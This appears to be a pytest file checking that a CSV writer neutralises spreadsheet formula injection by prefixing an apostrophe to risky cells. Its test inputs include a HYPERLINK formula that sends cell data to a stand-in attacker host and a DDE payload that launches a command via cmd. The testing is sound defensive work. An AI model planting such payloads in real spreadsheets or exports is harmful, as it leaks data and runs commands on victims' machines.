"""Every CSV the product writes shows a formula as text, never runs it."""

import csv
import io

import pytest

from ccm.spreadsheets import csv_writer

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+966 Olaya St",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_starting_with_a_formula_prefix_gets_an_apostrophe(cell):
    target = io.StringIO(newline="")
    csv_writer(target).writerow([7, cell, "12 Olaya St"])
    (row,) = csv.reader(io.StringIO(target.getvalue(), newline=""))
    assert row == ["7", "'" + cell, "12 Olaya St"]


def test_rewriting_a_neutralised_file_does_not_stack_apostrophes():
    first = io.StringIO(newline="")
    csv_writer(first).writerows([["=1+1"], ["plain"]])
    again = io.StringIO(newline="")
    csv_writer(again).writerows(csv.reader(io.StringIO(first.getvalue())))
    assert list(csv.reader(io.StringIO(again.getvalue()))) == [["'=1+1"], ["plain"]]
